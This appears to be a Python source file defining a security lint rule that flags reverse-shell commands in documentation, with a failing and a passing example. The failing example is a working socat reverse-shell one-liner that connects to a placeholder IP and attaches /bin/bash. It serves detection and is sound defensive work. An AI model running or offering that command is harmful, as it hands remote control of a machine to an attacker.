"""No language hands a shell to another machine."""

from collections.abc import Iterator

from bot.workflow.standards.doc import Doc
from bot.workflow.standards.finding import Hit, Severity
from bot.workflow.standards.rule import Example, Reads, Rule, View
from bot.workflow.standards.threats import scan, seen, shell


def check(doc: Doc, _view: View) -> Iterator[Hit]:
    """Report the forms that other tools than bash and nc have."""
    yield from seen.hits(doc, shell.FAR, "hands a shell to another machine or hides a command")


RULE = Rule(
    severity=Severity.ERROR,
    standard="No program gives another machine a shell on this one.",
    why="Whoever listens at the other end can do what the reader can.",
    fix="Remove it; for remote work use SSH.",
    document=check,
    reads=Reads.TEXT,
    trigger=scan.trigger(*shell.FAR),
    is_security=True,
    fails=(
        Example(
            body="```bash\nsocat tcp:198.51.100.7:4444 exec:/bin/bash,pty\n```",
            at="socat",
        ),
    ),
    passes=(Example(body="```bash\nsocat TCP-LISTEN:8000,fork TCP:localhost:9000\n```"),),
)
